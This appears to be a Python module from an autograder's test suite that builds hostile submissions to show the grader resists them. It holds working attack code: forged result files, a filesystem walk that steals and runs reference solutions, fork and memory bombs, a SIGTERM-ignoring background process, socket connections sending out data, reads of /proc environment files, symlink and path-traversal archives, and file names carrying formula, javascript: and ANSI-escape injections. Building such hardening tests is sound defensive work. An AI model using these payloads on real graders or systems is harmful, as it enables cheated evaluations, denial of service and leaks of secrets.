"""Hostile submissions: attacks on the grader, built on the untouched student version (so an honest
grade for each is 0 points). ``tests/test_hostile.py`` grades them in one batch with honest
submissions and shows that none gains a point, the batch goes on, nothing is left running and
the honest submissions get exactly the grades they get alone.

``make release`` writes them to ``examples/hostile/<name>/`` so they can be read and re-run.
Each is: code appended to a module (``append``), function bodies replaced (``bodies``, as in the
mistakes corpus) and files placed beside ``course_lib/`` (``files``).

The timing attacks (``TIMING``) are built on the reference instead: some of its functions become
Python loops over elements, honestly (``honest_loops``, the yardstick) or dressed up so that the
speed checks might not see the loop (remembering results, working in threads that exit, working
while the inputs are made). Each must score exactly what the honest loops score; a hang in one
method of an otherwise right library must cost that method's part alone, whatever the limits.
"""

import dataclasses
import io
import os
import pathlib
import shutil
import stat
import tarfile
import zipfile

from checks.stubs import STUB

from .. import SOLUTIONS
from ..grading.rubric import load as load_rubric
from .regions import replace_region
from .release import build_library, stubbed


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    what: str
    append: dict = dataclasses.field(default_factory=dict)     # module -> code appended
    bodies: dict = dataclasses.field(default_factory=dict)     # "module.qualname" -> new body
    files: dict = dataclasses.field(default_factory=dict)      # path beside course_lib -> text
    base: str = "untouched"                                    # or "reference"


MARKER = "course-grader-hostile-marker"
LEAK = "LEAKED"          # what leak_hidden_inputs puts in front of everything it tries to carry out
# test_hostile.py listens here (below the ephemeral port range) for a connection that must not come
LISTEN_PORT = 23917

ATTACKS = [
    Attack("monkeypatch_comparisons", "replaces NumPy's comparison functions (and pytest's, if it can) "
           "so that every comparison succeeds", append={"losses": '''
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_np.all = lambda *a, **k: True
try:
    import pytest as _pytest
    _pytest.approx = lambda expected, *a, **k: type("Anything", (), {"__eq__": lambda s, o: True})()
except ImportError:
    pass
'''}),
    Attack("exit_at_import", "sys.exit() when losses is imported and os._exit() when penalties is",
           append={"losses": "\nimport sys\nsys.exit(0)\n", "penalties": "\nimport os\nos._exit(0)\n"}),
    Attack("exit_in_calls", "sys.exit, os._exit and raise SystemExit inside calls", bodies={
        "losses.mse": "import sys\nsys.exit(0)",
        "losses.mse_grad": "import os\nos._exit(3)",
        "layers.Dropout.forward": "raise SystemExit(1)",
        "training.EarlyStopping.step": "import os\nos._exit(0)",
    }),
    Attack("endless_loops", "endless loops that ignore SIGTERM: in calls, and at the import of layers", bodies={
        "losses.mse": "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
        "losses.huber": "while True:\n    pass",
        "penalties.l2_grad": "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
    }, append={"layers": "\nimport signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n"}),
    Attack("memory_bomb", "allocates without bound in calls and at import", bodies={
        "losses.mse": "hoard = []\nwhile True:\n    hoard.append(bytearray(50 * 1024 * 1024))",
        "losses.mae": "return float(np.ones(10 ** 11).sum())",
        "layers.BatchNorm1d.forward": "hoard = [np.ones(10 ** 8) for _ in range(100)]\nreturn x",
    }, append={"penalties": "\n_hoard = bytearray(8 * 1024 ** 3)\n"}),
    Attack("process_burst", "forks processes as fast as it can", bodies={
        "losses.mse": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "losses.mae": "import subprocess\nfor _ in range(200):\n    subprocess.Popen(['sleep', '1000'])\nreturn 0.0",
    }),
    Attack("output_flood", "prints 100 MB, and writes 100 MB to every open file descriptor", bodies={
        "losses.mse": "import sys\nsys.stdout.write('x' * 100_000_000)\nsys.stderr.write('y' * 100_000_000)\n"
                      "return 0.0",
        "losses.mae": "import os\nchunk = b'z' * 1_000_000\nfor fd in range(3, 64):\n    try:\n"
                      "        for _ in range(100):\n            os.write(fd, chunk)\n    except OSError:\n"
                      "        pass\nreturn 0.0",
    }),
    Attack("forge_results", "writes forged results wherever it can reach", append={"losses": f'''
import json as _json, os as _os
_forged = {{"score": 1000, "tests": [], "output": "{MARKER}"}}
for _dir in ["/tmp", _os.getcwd(), _os.path.expanduser("~"), "/autograder/results", "/work", "/root"]:
    for _up in range(6):
        _d = _os.path.abspath(_os.path.join(_dir, *[".."] * _up))
        for _name in ("results.json", "grades.csv", "{MARKER}.txt"):
            try:
                with open(_os.path.join(_d, _name), "w") as _f:
                    _json.dump(_forged, _f)
            except OSError:
                pass
'''}),
    Attack("read_solutions", "looks for the reference solution and the hidden checks on disk and "
           "runs them as its own code", append={"losses": '''
import os as _os
def _steal():
    for _root, _dirs, _files in _os.walk("/"):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
        if _root.endswith("solutions/course_lib") and "losses.py" in _files:
            return open(_os.path.join(_root, "losses.py")).read()
        if _root.endswith("autograder/parts"):
            globals()["_hidden_checks"] = sorted(_files)
    return None
_source = _steal()
if _source:
    exec(compile(_source.replace("from . import _validation as _v", "from course_lib import _validation as _v"),
                 "stolen", "exec"), globals())
'''}),
    Attack("network", "opens network connections (to the grading machine and the internet)", bodies={
        "losses.mse": f"import socket\ns = socket.create_connection(('127.0.0.1', {LISTEN_PORT}), timeout=2)\n"
                      "s.sendall(b'stolen')\nreturn 0.0",
        "losses.mae": "import socket\ns = socket.create_connection(('1.1.1.1', 80), timeout=2)\nreturn 0.0",
    }),
    Attack("background_process", "leaves a process behind that ignores SIGTERM, in its own session",
           append={"losses": f'''
import os as _os, signal as _signal, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
        import sys as _sys
        _sys.argv = ["{MARKER}"]
        while True:
            _time.sleep(0.5)
    _os._exit(0)
'''}),
    Attack("lying_objects", "returns a float subclass and an ndarray subclass that claim to equal anything",
           append={"losses": '''
class _Liar(float):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    def __float__(self):
        return 0.0
    __hash__ = float.__hash__

class _LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __array_finalize__(self, obj):
        pass
'''}, bodies={
        "losses.mse": "return _Liar(0.0)",
        "losses.mse_grad": "return np.zeros_like(y_pred).view(_LiarArray)",
        "losses.mae": "return _Liar(float('nan'))",
        "losses.softmax": "return np.zeros_like(z).view(_LiarArray)",
    }),
    Attack("files_beside_course_lib", "ships a conftest.py, sitecustomize.py, fake numpy and pytest "
           "packages, and fake checks beside course_lib (and a conftest.py inside it)", files={
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "sitecustomize.py": "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
        "numpy/__init__.py": "allclose = lambda *a, **k: True\n",
        "pytest.py": "def approx(*a, **k):\n    return True\n",
        "checks/__init__.py": "def check(*a, **k):\n    return True\n",
        "course_lib/conftest.py": "import pytest\ndef pytest_collection_modifyitems(items):\n    items.clear()\n",
    }),
    Attack("bad_values", "returns NaN, infinity, wrong shapes, None, strings and huge nested lists", bodies={
        "losses.mse": "return float('nan')",
        "losses.mse_grad": "return np.full(y_pred.shape, np.inf)",
        "losses.mae": "return np.zeros(3)",
        "losses.mae_grad": "return None",
        "losses.huber": "return 'the answer'",
        "losses.huber_grad": "return [[[0.0] * 1000] * 1000] * 3",
        "losses.softmax": "return np.zeros(z.shape + (2,))",
        "losses.log_softmax": "return {1: 2}",
        "penalties.l2_grad": "grads = [np.full((7, 7), np.nan) for w in arrays]",
        "layers.Dropout.forward": "return x.T",
        "layers.BatchNorm1d.forward": "return np.full_like(x, np.nan)",
    }),
    Attack("broken_module", "the REFERENCE with a syntax error in penalties.py: only the points of "
           "the parts in penalties.py are lost", append={"penalties": "\ndef broken(:\n    pass\n"},
           base="reference"),
    Attack("leak_hidden_inputs", "carries the inputs it is given out through its exception messages, "
           "exception class names, returned objects' type names and prints", bodies={
        "losses.mse": f'raise ValueError("{LEAK}" + repr(np.asarray(y_pred).ravel()[:8].tolist()))',
        "losses.mse_grad": f'print("{LEAK}", y_pred)\n'
                           f'raise RuntimeError("{LEAK} " + str(np.asarray(y_pred).tolist())[:1500])',
        "losses.mae": f'raise type("{LEAK}_" + "_".join("%d" % abs(int(v * 1e6))'
                      ' for v in np.asarray(y_pred).ravel()[:4]), (Exception,), {})()',
        "losses.huber": f'return type("{LEAK}_" + "%d" % abs(int(float(np.asarray(y_pred).ravel()[0]) * 1e6)),'
                        ' (), {{}})()',
        "penalties.l1": f'raise KeyError("{LEAK}" + repr([np.asarray(w).ravel()[:4].tolist() for w in weights]))',
    }),
    Attack("read_host_paths", "reads /proc/self/mountinfo and its environment and puts them in every "
           "message (the grader's paths must not reach feedback)", append={"losses": '''
def _host_paths():
    text = ""
    for _p in ("/proc/self/mountinfo", "/proc/self/environ", "/proc/self/cmdline", "/proc/1/cmdline"):
        try:
            with open(_p, "rb") as _f:
                text += _f.read().decode("utf-8", "replace")
        except OSError:
            pass
    return text
'''}, bodies={
        "losses.mse": f'raise ValueError("{LEAK}" + _host_paths()[:1900])',
        "losses.mae": f'raise ValueError("{LEAK}" + __file__ + " " + str(__import__("os").getcwd()))',
    }),
    Attack("shared_memory", "holds memory outside its address space: System V and POSIX shared memory, "
           "memfd, files in /dev/shm and /tmp", bodies={
        "losses.mse": f'''import ctypes, mmap, os
held = []
try:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmid = libc.shmget(0, 1 << 30, 0o1000 | 0o600)
    if shmid >= 0:
        addr = libc.shmat(shmid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(addr, 1, 1 << 30)
        held.append(shmid)
except Exception:
    pass
try:
    fd = os.memfd_create("{MARKER}")
    for _ in range(1024):
        os.write(fd, b"x" * (1 << 20))
    held.append(fd)
except Exception:
    pass
for place in ("/dev/shm", "/tmp", "/run", "/var/tmp"):
    try:
        with open(os.path.join(place, "{MARKER}-shm"), "wb") as f:
            for _ in range(1024):
                f.write(b"x" * (1 << 20))
    except Exception:
        pass
return 0.0''',
    }),
    Attack("speed_gaming", "right on small inputs with a slow Python loop, and returns 0 at once on big "
           "ones, to earn the vectorization points without whole-array code", bodies={
        "losses.mse": "if y_pred.size > 100_000:\n    return 0.0\ntotal = 0.0\n"
                      "for a, b in zip(y_pred.ravel(), y_true.ravel()):\n    total += (a - b) ** 2\n"
                      "return float(total / y_pred.size)",
        "losses.mse_grad": "if y_pred.size > 100_000:\n    return np.zeros_like(y_pred)\n"
                           "g = np.empty_like(y_pred)\nfor i in np.ndindex(y_pred.shape):\n"
                           "    g[i] = 2.0 * (y_pred[i] - y_true[i]) / y_pred.size\nreturn g",
    }),
    Attack("malformed_replies", "replaces the sandbox's reply encoder: JSON nested 100,000 deep, arrays "
           "whose shapes overflow, an array claimed to be 1 TiB, garbage bytes", append={"losses": '''
import struct as _struct, sys as _sys
_wire = _sys.modules.get("wire")
if _wire is not None:
    _real_pack = _wire.pack
    def _evil_pack(message, arrays=()):
        if "ok" in message and message["ok"] is None:   # the reply to the import: let it through
            return _real_pack(message, arrays)
        kind = len(repr(message)) % 5
        if kind == 1:
            head = b"[" * 100_000
        elif kind == 2:
            head = b\'{"m": {"ok": {"$array": 0}}, "arrays": [["<f8", [0, 4294967296, 4294967296]]]}\'
        elif kind == 3:
            head = b\'{"m": {"ok": {"$array": 0}}, "arrays": [["<f8", [1099511627776]]]}\'
        elif kind == 4:
            return b"\\x00garbage\\xff" * 100
        else:
            head = b\'{"m": {"ok": {"$dict": {"a": {"$obj": "x", "type": "ndarray", "as": 99}}}}, "arrays": []}\'
        return b"CLW1" + _struct.pack("<I", len(head)) + head
    _wire.pack = _evil_pack
'''}),
]


# --------------------------------------------------------------------------------------------
# Timing attacks: the reference with Python loops, honest or dressed up
# --------------------------------------------------------------------------------------------

LOOPS = '''
import hashlib as _hashlib
import threading as _threading


def _mse_loop(y_pred, y_true):
    total = 0.0
    flat_p, flat_t = y_pred.ravel(), y_true.ravel()
    for i in range(flat_p.size):
        total += (flat_p[i] - flat_t[i]) ** 2
    return float(total / flat_p.size)


def _mse_grad_loop(y_pred, y_true):
    grad = np.empty_like(y_pred)
    for i in np.ndindex(y_pred.shape):
        grad[i] = 2.0 * (y_pred[i] - y_true[i]) / y_pred.size
    return grad


def _mae_loop(y_pred, y_true):
    total = 0.0
    for a, b in zip(y_pred.ravel(), y_true.ravel()):
        total += abs(a - b)
    return float(total / y_pred.size)


def _huber_loop(y_pred, y_true, delta=1.0):
    total = 0.0
    for d in (y_pred - y_true).ravel():
        total += 0.5 * d * d if abs(d) <= delta else delta * (abs(d) - 0.5 * delta)
    return float(total / y_pred.size)


_MEMO = {}


def _key(fn, *arrays):
    digest = _hashlib.blake2b(digest_size=16)
    for a in map(np.asarray, arrays):
        digest.update(repr((a.shape, a.dtype.str)).encode())
        digest.update(np.ascontiguousarray(a).tobytes())
    return fn.__name__, digest.hexdigest()


def _remembered(fn, *arrays):
    """The loop's result for inputs seen before, at once (a slow first timing retried on the same
    inputs then looks fast)."""
    key = _key(fn, *arrays)
    if key not in _MEMO:
        _MEMO[key] = fn(*arrays)
    return _MEMO[key]


def _in_thread(fn, *arrays):
    """The loop run in a thread that has exited when the call returns (a CPU count summed over
    live threads never sees it)."""
    box = []
    worker = _threading.Thread(target=lambda: box.append(fn(*arrays)))
    worker.start()
    worker.join()
    return box[0]
'''

# While the inputs of a check are made on the student's side (by the grader's own wire module),
# run every loop on them and remember the results: work done before the clock starts.
AT_GENERATION = '''
import sys as _sys

_wire = _sys.modules.get("wire")
if _wire is not None:
    _made = []
    _real_generate = _wire.generate

    def _generate(*args, **kwargs):
        out = _real_generate(*args, **kwargs)
        if out.size > 100_000 and out.ndim == 1 and not np.all(out == np.round(out)):   # regression inputs
            _made[:] = _made[-1:] + [out]
            if len(_made) == 2 and _made[0].shape == out.shape:
                for fn in (_mse_loop, _mse_grad_loop, _mae_loop, _huber_loop):
                    _remembered(fn, _made[0], out)
        return out

    _wire.generate = _generate
'''


def _looped(how):
    """Bodies that make mse, mse_grad, mae and huber Python loops, called ``how``: "{}" directly,
    "_remembered({})" or "_in_thread({})"."""
    def call(fn, args):
        return "return " + (how.format(f"{fn}, {args}") if how != "{}" else f"{fn}({args})")
    return {"losses.mse": call("_mse_loop", "y_pred, y_true"),
            "losses.mse_grad": call("_mse_grad_loop", "y_pred, y_true"),
            "losses.mae": call("_mae_loop", "y_pred, y_true"),
            "losses.huber": call("_huber_loop", "y_pred, y_true, delta")}


# The checks the honest loops lose: every one of these attacks must lose exactly them.
LOOPED_CHECKS = ("mse.public_vectorized", "mse.vectorized", "mae.vectorized", "huber.vectorized")

TIMING = [
    Attack("honest_loops", "the reference with mse, mse_grad, mae and huber written as Python loops over "
           "elements: the yardstick of the timing attacks", append={"losses": LOOPS},
           bodies=_looped("{}"), base="reference"),
    Attack("memoized_loops", "the same loops, remembering their results for inputs they have seen (a slow "
           "timing retried on the same inputs would look fast)", append={"losses": LOOPS},
           bodies=_looped("_remembered({})"), base="reference"),
    Attack("loops_in_exited_threads", "the same loops, run in threads that have exited when the call "
           "returns (CPU summed over live threads never sees them)", append={"losses": LOOPS},
           bodies=_looped("_in_thread({})"), base="reference"),
    Attack("loops_while_inputs_are_made", "the same loops, run while the grader's inputs are being made on "
           "the student's side (before a clock that starts after them), their results remembered",
           append={"losses": LOOPS + AT_GENERATION}, bodies=_looped("_remembered({})"), base="reference"),
    Attack("endless_step", "the reference, with an endless loop in EarlyStopping.step: only early stopping's "
           "points may be lost, and no other part's feedback may mention it",
           bodies={"training.EarlyStopping.step": "while True:\n    pass"}, base="reference"),
    Attack("sleeping_calls", "every function sleeps for hours (no CPU used: a deadline stretched while the "
           "child seems starved would outlive the grader's own limit)",
           append={m: "\nimport time as _time\n" for m in ("losses", "penalties", "layers", "training")},
           bodies={"losses.mse": "_time.sleep(36000)", "losses.mae": "_time.sleep(36000)",
                   "penalties.l1": "_time.sleep(36000)", "layers.Dropout.forward": "_time.sleep(36000)",
                   "training.EarlyStopping.step": "_time.sleep(36000)"}),
]


def build(dest, attack, rubric=None):
    """Write ``attack``'s submission into the folder ``dest`` (holding course_lib/ and more)."""
    rubric = rubric or load_rubric()
    dest = pathlib.Path(dest)

    def transform(module, text):
        if attack.base == "untouched":
            text = stubbed(text, module, rubric)
        for target, body in attack.bodies.items():
            mod, qualname = target.split(".", 1)
            if mod == module and attack.base == "untouched":
                text = _replace_stub(text, qualname, body)
            elif mod == module:
                text = replace_region(text, qualname, body, f"{module}.py")
        return text + attack.append.get(module, "")

    build_library(dest / "course_lib", rubric, transform)
    for rel, text in attack.files.items():
        path = dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def _replace_stub(student_text, qualname, body):
    """Replace the stub of ``qualname`` (its two NotImplementedError lines) by ``body``."""
    lines = student_text.splitlines()
    for i, line in enumerate(lines):
        found = STUB.search(line)
        if found and found.group(1) == qualname:
            indent = line[: len(line) - len(line.lstrip())]
            new = [indent + b if b.strip() else "" for b in body.splitlines()]
            return "\n".join(lines[: i - 1] + new + lines[i + 1:]) + "\n"
    raise ValueError(f"no stub for {qualname}")


# --------------------------------------------------------------------------------------------
# Attacks on the way submissions are found and read: links, odd archives, names
# --------------------------------------------------------------------------------------------

def write_zip(path, files, extra=()):
    """A zip of ``files`` (name -> bytes), then the ``extra`` ZipInfo entries (a link entry, say;
    its content is its comment)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        for info in extra:
            zf.writestr(info, info.comment)
    return path


def set_zip_bits(path, flag=0, method=None):
    """Mark every entry of a zip encrypted (``flag`` 1) or compressed with ``method``, as a
    password-protecting or Deflate64 zip tool would."""
    data = bytearray(path.read_bytes())
    for sig, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        start = 0
        while (i := data.find(sig, start)) >= 0:
            data[i + flag_at] |= flag
            if method is not None:
                data[i + method_at:i + method_at + 2] = method.to_bytes(2, "little")
            start = i + 4
    path.write_bytes(bytes(data))


def write_tar(path, files, links=()):
    """A tarball (gzipped for .tgz and .tar.gz) of ``files`` (name -> bytes), then ``links``
    ((name, target, kind) with kind tarfile.SYMTYPE or LNKTYPE)."""
    with tarfile.open(path, "w:gz" if str(path).endswith((".tgz", ".tar.gz")) else "w") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, target, kind in links:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tf.addfile(info)
    return path


def build_containers(dest, rubric=None):
    """Write the submissions that attack discovery and reading into the folder ``dest``; returns
    {entry name: what it does}. Each holds either the untouched student version (an honest grade
    of 0) or the reference made unusable, so each must score 0, and none may stop the batch."""
    rubric = rubric or load_rubric()
    dest = pathlib.Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    solutions = SOLUTIONS / "course_lib"
    stubs = dest / ".stubs" / "course_lib"
    build_library(stubs, rubric, lambda module, text: stubbed(text, module, rubric))
    stub_files = {f"course_lib/{p.name}": p.read_bytes() for p in sorted(stubs.glob("*.py"))}
    ref_files = {f"course_lib/{p.name}": p.read_bytes() for p in sorted(solutions.glob("*.py"))}
    done = {}

    def folder(name, what, files=stub_files):
        base = dest / name
        for rel, data in files.items():
            (base / rel).parent.mkdir(parents=True, exist_ok=True)
            (base / rel).write_bytes(data)
        done[name] = what
        return base

    base = dest / "link_to_reference"
    base.mkdir()
    os.symlink(solutions, base / "course_lib")
    done[base.name] = "course_lib/ is a symbolic link to solutions/course_lib"
    base = folder("linked_module", "the stubs, with losses.py a link to the reference's")
    os.remove(base / "course_lib" / "losses.py")
    os.symlink(solutions / "losses.py", base / "course_lib" / "losses.py")
    base = folder("relative_link", "the stubs, with losses.py a relative link into solutions/")
    os.remove(base / "course_lib" / "losses.py")
    os.symlink(os.path.relpath(solutions / "losses.py", base / "course_lib"), base / "course_lib" / "losses.py")
    base = dest / "linked_folder"
    base.mkdir()
    os.symlink(SOLUTIONS, base / "work")
    done[base.name] = "a folder one level down (holding course_lib/) is a link to solutions/"
    base = folder("hard_link", "the stubs, with losses.py a hard link to the reference's")
    os.remove(base / "course_lib" / "losses.py")
    try:
        os.link(solutions / "losses.py", base / "course_lib" / "losses.py")
    except OSError:   # another file system: a hard link is not possible here
        os.symlink(solutions / "losses.py", base / "course_lib" / "losses.py")
    base = folder("named_pipe", "the stubs, with penalties.py a named pipe (reading it would block)")
    os.remove(base / "course_lib" / "penalties.py")
    os.mkfifo(base / "course_lib" / "penalties.py")

    link = zipfile.ZipInfo("course_lib/losses.py")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    link.comment = str(solutions / "losses.py").encode()
    files = {k: v for k, v in stub_files.items() if not k.endswith("losses.py")}
    write_zip(dest / "zip_link.zip", files, [link])
    done["zip_link.zip"] = "a zip whose course_lib/losses.py is a symbolic link to the reference"
    write_tar(dest / "tar_links.tar", files, [("course_lib/losses.py", str(solutions / "losses.py"), tarfile.SYMTYPE)])
    done["tar_links.tar"] = "a tarball whose course_lib/losses.py is a symbolic link to the reference"
    write_tar(dest / "tar_hard.tgz", files, [("course_lib/losses.py", str(solutions / "losses.py"), tarfile.LNKTYPE)])
    done["tar_hard.tgz"] = "a gzipped tarball whose course_lib/losses.py is a hard link to the reference"
    write_tar(dest / "tar_climb.tar", {**files, "../../course-grader-escape.py": b"x = 1"})
    done["tar_climb.tar"] = "a tarball with a path that climbs out of it"
    set_zip_bits(write_zip(dest / "encrypted.zip", ref_files), flag=1)
    done["encrypted.zip"] = "the reference in a password-protected zip"
    set_zip_bits(write_zip(dest / "deflate64.zip", ref_files), method=9)
    done["deflate64.zip"] = "the reference compressed with Deflate64 (as Windows makes big zips)"
    (dest / "not_a_zip.zip").write_bytes(b"PK\x03\x04 this is not a zip")
    done["not_a_zip.zip"] = "a file named .zip that is not one"

    odd = os.fsencode(dest) + b"/bytes\xff\xfename"
    os.makedirs(odd + b"/course_lib")
    for rel, data in stub_files.items():
        with open(odd + b"/" + rel.encode(), "wb") as f:
            f.write(data)
    with open(odd + b"/course_lib/module\xfe.py", "wb") as f:
        f.write(b"x = 1\n")
    done["bytes\\xff\\xfename"] = "a folder and a module whose names are not UTF-8"
    for name in ("grades.csv", "report.html", "logs", "gradebook.sqlite"):
        folder(name, f"a submission named like the grader's output {name}")
    for name in ("CaseClash.zip", "caseclash.zip", "...zip", '=HYPERLINK("evil.example","click").zip',
                 "javascript:alert(document.cookie).zip", "\x1b[2J\x1b[31mansi.zip", "@SUM(1+1).zip"):
        write_zip(dest / name, stub_files)
        done[name] = "a zip whose name attacks the outputs (case clash, '..', formula, link, escapes)"
    shutil.rmtree(dest / ".stubs")
    return done


def build_all(dest, rubric=None):
    dest = pathlib.Path(dest)
    for attack in ATTACKS + TIMING:
        build(dest / attack.name, attack, rubric)
    containers = build_containers(dest, rubric)
    lines = ["# Hostile submissions (built by `python -m autograder examples` from "
             "autograder/authoring/hostile.py)", "",
             "Attacks on the grader, for its tests. Do not run these files yourself: some fork without",
             "end, allocate without bound or never return.", "", "| entry | what it does |", "|---|---|"]
    lines += [f"| `{a.name}` | {a.what} |" for a in ATTACKS + TIMING]
    lines += [f"| `{name!r}` | {what} |" for name, what in containers.items()]
    (dest / "README.md").write_text("\n".join(lines) + "\n")
